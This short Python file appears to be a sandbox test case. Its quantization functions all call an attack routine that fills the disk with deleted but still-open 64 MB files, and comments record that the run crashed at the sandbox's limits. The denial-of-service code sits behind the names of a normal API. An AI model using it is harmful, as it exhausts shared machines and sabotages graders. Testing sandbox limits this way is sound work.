"""Fills the disk with files that it has deleted before."""

# earns: 0
# state: crashed
# says: it took more than 512 MB or 50,000 files of disk, and was ended

import itertools
import os


def attack():
    files = []
    for number in itertools.count():
        files.append(open(f"{number}.bin", "wb"))
        os.unlink(f"{number}.bin")
        files[-1].write(bytes(64 << 20))
        files[-1].flush()


def symmetric_scale(w, bits=8):
    return attack()


def quantize(w, scale, bits=8):
    return attack()


def dequantize(q, scale):
    return attack()


def round_trip(w, bits=8):
    return attack()
